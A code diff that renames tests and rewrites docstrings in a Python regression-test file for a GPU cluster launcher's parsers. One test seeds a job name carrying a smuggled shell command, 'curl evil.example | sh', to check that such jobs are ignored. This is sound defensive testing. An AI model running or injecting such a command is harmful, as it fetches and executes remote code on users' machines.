@@ -1,4 +1,4 @@
-"""Single answers that once led to a traceback, or to no end: each one by itself."""
+"""Regressions: answers that once caused a traceback or an endless loop."""
 
 from __future__ import annotations
 
@@ -29,12 +29,12 @@ from tests import supervision
 from tests.hostile import seeds
 
 
-def answer(said: object) -> Answer:
-    return Answer(node="gpu01", code=0, out=said if isinstance(said, str) else json.dumps(said))
+def answer(body: object) -> Answer:
+    return Answer(node="gpu01", code=0, out=body if isinstance(body, str) else json.dumps(body))
 
 
-def rows(*each: Any) -> list[Any]:
-    return list(each)
+def rows(*items: Any) -> list[Any]:
+    return list(items)
 
 
 def usage(text: str) -> str:
@@ -74,14 +74,14 @@ def usage(text: str) -> str:
         lambda: job_store.parse_follow(answer({"job": {"status": "RUNNING"}, "offset": -1})),
     ],
 )
-def test_answers_that_cannot_be_read(read: Callable[[], Any]) -> None:
-    """Say so."""
+def test_unreadable_answers(read: Callable[[], Any]) -> None:
+    """One of our errors, not a traceback."""
     with pytest.raises(UnreadableAnswer):
         read()
 
 
-def test_figures_that_are_none() -> None:
-    """Are left out."""
+def test_invalid_figures() -> None:
+    """They are omitted."""
     assert (
         vllm.parse_capacity(
             {"kv_cache_size_tokens": "inf", "kv_cache_max_concurrency": "nan"}
@@ -105,8 +105,8 @@ def test_figures_that_are_none() -> None:
     assert serving_judges.claimed_gpus({"metadata": {serving_judges.GPUS: "inf"}}) == 0
 
 
-def test_a_name_that_is_a_command() -> None:
-    """Hints name jobs, and people run hints."""
+def test_a_name_with_a_command() -> None:
+    """Such a job is ignored: hints name jobs, and people run hints."""
     job = seeds.job(
         "batch-1", {serving_judges.NAME: "x; curl evil.example | sh", serving_judges.GPUS: "1"}
     )
@@ -116,67 +116,67 @@ def test_a_name_that_is_a_command() -> None:
     assert serving_judges.active_batches({"jobs": [job]}) == []
 
 
-def test_files_that_are_less_than_nothing() -> None:
-    """What is on its way goes on at an offset that a file has."""
+def test_invalid_file_sizes() -> None:
+    """Only valid sizes are kept: a transfer resumes at that offset."""
     entry = job_store.parse_entry(answer({**seeds.ENTRY, "inputs": {"a": -5, "b": True, "c": 3}}))
     assert dict(entry.inputs) == {"c": 3}
 
 
 def test_a_report_of_another_node() -> None:
-    """Counts for none."""
-    said = json.dumps({"node": "gpu02", "backend": "gloo"})
-    assert network_plan.parse_answers({"gpu01": [answer(said)]}) == (
+    """It is discarded."""
+    report = json.dumps({"node": "gpu02", "backend": "gloo"})
+    assert network_plan.parse_answers({"gpu01": [answer(report)]}) == (
         {},
         {"gpu01": "the network probe's report is from another node"},
     )
 
 
-@pytest.mark.parametrize("said", [{"local": "-1"}, {"local": ""}, {"prefixlen": 129}])
-def test_an_address_that_is_none(said: dict[str, Any]) -> None:
-    """Checks compare it with others: the node's answer cannot be read."""
+@pytest.mark.parametrize("changes", [{"local": "-1"}, {"local": ""}, {"prefixlen": 129}])
+def test_an_invalid_address(changes: dict[str, Any]) -> None:
+    """Checks compare addresses, so the node's answer is unreadable."""
     text = dict(seeds.probes())["gpu01"]
     parts = text.split("@@vlaunch addr\n")
     rows, mark, rest = parts[1].partition("\n@@vlaunch")
     links = json.loads(rows)
-    links[0]["addr_info"][0].update(said)
+    links[0]["addr_info"][0].update(changes)
     with pytest.raises(UnreadableAnswer):
         host_output.parse_probe(f"{parts[0]}@@vlaunch addr\n{json.dumps(links)}{mark}{rest}")
 
 
-def test_a_token_that_is_none() -> None:
-    """It would go to every node, and be taken out of all that is shown."""
+def test_an_invalid_token() -> None:
+    """It would be copied to every node, and redacted from all output."""
     text = dict(seeds.probes())["gpu01"].replace(
         "@@vlaunch token\ntok", "@@vlaunch token\n" + "status \n" * 9
     )
     assert host_output.parse_probe(text).token == ""
 
 
-def test_tags_that_are_no_text() -> None:
-    """Of an image that a host has."""
+def test_invalid_image_tags() -> None:
+    """Tags of a host's image that are no text are ignored."""
     item = {"Id": "a", "RootFS": {}, "Config": {}, "RepoTags": [1, "vllm:1"]}
-    found = local_assets.parse_local_assets(
+    assets = local_assets.parse_local_assets(
         f"@@stock home {'9' * 5000} /d\n@@stock images\n{json.dumps([item])}\n@@stock end\n"
     )
-    assert list(found.images) == ["vllm:1"]
-    assert found.homes[0].free is None
+    assert list(assets.images) == ["vllm:1"]
+    assert assets.homes[0].free is None
 
 
-def test_spaces_without_end() -> None:
-    """A pattern that tries every way to part them."""
+def test_endless_spaces() -> None:
+    """No pattern backtracks over them."""
     began = time.thread_time()
     gpu_survey.parse_processes("GPU-x, 1," + " " * 200_000)
     assert time.thread_time() - began < 2
 
 
-def test_fields_that_are_known_have_a_kind() -> None:
-    """And what is not known is left to who asked for it."""
+def test_known_fields_have_a_type() -> None:
+    """Unknown fields are the caller's concern."""
     ray_judges.check_fields({"servers": 5, "new": []}, "it")
     with pytest.raises(UnreadableAnswer, match="`offset`"):
         ray_judges.check_fields({"offset": "200"}, "it")
 
 
 @pytest.mark.parametrize(
-    ("said", "field"),
+    ("payload", "field"),
     [
         ({"jobs": [{"submission_id": "a"}]}, "`jobs.0.status` is missing"),
         ({"jobs": [{"status": "RUNNING"}]}, "`jobs.0.submission_id` is missing"),
@@ -186,10 +186,8 @@ def test_fields_that_are_known_have_a_kind() -> None:
         ({"left": [1, True]}, "`left.1` cannot be True"),
     ],
 )
-def test_a_head_that_leaves_out_what_others_take_for_granted(
-    said: dict[str, Any], field: str
-) -> None:
-    """A job in a list has a state, and a name."""
+def test_missing_required_fields(payload: dict[str, Any], field: str) -> None:
+    """A job in a list must have a state and an ID."""
     with pytest.raises(UnreadableAnswer, match=field):
-        ray_judges.check_fields(said, "it")
+        ray_judges.check_fields(payload, "it")
     ray_judges.check_fields({"job": {"status": None}, "jobs": []}, "it")
